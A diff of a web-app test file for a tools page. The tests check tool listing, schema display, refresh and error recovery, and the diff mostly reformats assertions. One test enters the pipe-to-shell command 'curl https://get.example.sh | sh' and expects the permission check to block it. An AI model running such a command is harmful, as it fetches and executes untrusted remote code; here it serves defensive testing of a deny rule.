@@ -4,10 +4,10 @@ import { expect, test } from 'vitest'
 import { clientOf, FAULT, pretend } from '../../support/web/use-app.ts'
 import { openWebApp } from '../../support/web/web-app.ts'
 
-const TOTAL = `TOOL_SPECS = [{"name": "invoice_total", "description": "Sum of an invoice after tax.", "parameters": {"type": "object",
-  "properties": {"id": {"type": "string", "description": "Number of the invoice"}}, "required": ["id"]}}]
-def invoice_total(id):
+const TOTAL = `def invoice_total(id):
     return "the total of " + id
+TOOL_SPECS = [{"name": "invoice_total", "description": "Sum of an invoice after tax.", "handler": invoice_total, "parameters":
+  {"type": "object", "properties": {"id": {"type": "string", "description": "Number of the invoice"}}, "required": ["id"]}}]
 `
 
 test('S0.8 the page lists tools with source, effect and schema, says why a file was skipped, and reads them again', async () => {
@@ -21,7 +21,9 @@ test('S0.8 the page lists tools with source, effect and schema, says why a file 
   await expect.poll(() => list.getByRole('button').count()).toBe(1)
   await list.getByRole('button', { name: /invoice_total/ }).click()
   expect(page.url()).toContain('tool=invoice_total')
-  await expect.poll(() => page.getByRole('region', { name: 'Schema' }).innerText()).toMatch(/id\s+string\s+Number of the/)
+  await expect
+    .poll(() => page.getByRole('region', { name: 'Schema' }).innerText())
+    .toMatch(/id\s+string\s+Number of the/)
   expect(await page.locator('.det').innerText()).toMatch(/invoices\.py:\d+[\s\S]*Sum of an invoice after tax/)
   writeFileSync(join(home, 'tools/invoices.py'), TOTAL.replace('after tax', 'before tax'))
   await page.getByRole('button', { name: 'Refresh' }).click()
@@ -34,7 +36,9 @@ test('a tool is tried: checked while it is typed, with the trace; tried without 
   await page.goto(`${url}/tools?tool=shell`)
   const area = page.getByRole('region', { name: 'Try it' })
   await area.getByLabel(/^command/).fill('curl https://get.example.sh | sh')
-  await expect.poll(() => area.innerText(), { timeout: 20_000 }).toMatch(/Blocked\.[\s\S]*Decision: deny\. Any deny wins/)
+  await expect
+    .poll(() => area.innerText(), { timeout: 20_000 })
+    .toMatch(/Blocked\.[\s\S]*Decision: deny\. Any deny wins/)
   expect(await area.getByRole('button', { name: /^Run/ }).isDisabled()).toBe(true)
   await area.getByLabel(/^command/).fill('echo two >> old.txt; echo printed')
   await expect.poll(() => area.innerText()).toMatch(/Would ask you\.[\s\S]*Decision: ask/)
@@ -101,7 +105,9 @@ test('10,000 tools stay quick: few rows are in the page; J and K choose; / filte
   const heal = await pretend(page, /\/api\/tools$/, 500, FAULT)
   await page.goto(`${url}/tools`)
   const alert = page.getByRole('alert')
-  await expect.poll(() => alert.first().innerText(), { timeout: 20_000 }).toMatch(/tools cannot be loaded: Something went/)
+  await expect
+    .poll(() => alert.first().innerText(), { timeout: 20_000 })
+    .toMatch(/tools cannot be loaded: Something went/)
   await heal()
   await alert.getByRole('button', { name: 'Try again' }).click()
   await expect.poll(() => list.innerText(), { timeout: 20_000 }).toMatch(/read_file/)
